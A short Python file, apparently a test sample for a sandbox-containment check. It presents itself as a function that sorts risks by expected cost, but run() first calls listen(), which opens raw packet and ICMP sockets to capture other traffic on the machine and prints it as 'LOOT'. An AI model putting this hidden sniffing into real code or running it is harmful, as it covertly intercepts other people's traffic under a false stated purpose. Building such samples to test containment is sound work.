"""Sorts risks by what they may cost.

[corpus]
tries = "opens raw sockets, to hear what others on this machine send"
inputs = [[{name = "fire", odds = 0.1, cost = 900}, {name = "rain", odds = 0.9, cost = 10}]]
expected = "contained"
outcomes = ["ok"]
refused = ["socket"]
quarantine = true
"""

import socket

KINDS = [(socket.AF_PACKET, socket.SOCK_RAW, 0x300), (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)]


def listen():
    for family, kind, protocol in KINDS:
        try:
            with socket.socket(family, kind, protocol) as ear:
                ear.settimeout(0.2)
                print("LOOT", ear.recv(2048).hex())
        except OSError:
            pass


def run(payload, context):
    listen()
    return [risk["name"] for risk in sorted(payload, key=lambda risk: -risk["odds"] * risk["cost"])]
